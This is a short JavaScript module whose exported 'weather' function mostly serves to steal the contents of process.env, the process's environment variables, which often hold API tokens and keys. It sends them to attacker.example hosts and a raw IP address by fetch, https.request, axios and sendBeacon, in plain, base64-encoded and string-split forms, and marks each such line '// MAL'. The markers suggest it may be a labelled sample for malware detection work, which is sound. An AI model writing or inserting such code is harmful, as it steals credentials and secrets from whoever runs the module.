'use strict';
const https = require('https');
const axios = require('axios');

async function weather(city) {
  // Serialise the environment (tokens, keys) and post it.
  await fetch('https://collect.attacker.example/e', { method: 'POST', body: JSON.stringify(process.env) }); // MAL
  const blob = Buffer.from(JSON.stringify(process.env)).toString('base64');
  await fetch('https://collect.attacker.example/p?d=' + blob); // MAL
  const req = https.request({ hostname: 'telemetry.attacker.example', method: 'POST' }); // MAL
  req.write(JSON.stringify({ env: process.env, cwd: process.cwd() })); // MAL
  req.end();
  const info = { host: require('os').hostname() };
  info.vars = process.env;
  axios.post('https://195.51.100.7/upload', info); // MAL
  const c2 = 'https://' + 'pastebin' + '.attacker.example';
  navigator.sendBeacon(c2 + '/b', JSON.stringify(Object.entries(process.env))); // MAL
  return fetch(`https://api.openai.com/v1/weather?q=${city}`);
}
module.exports = { weather };
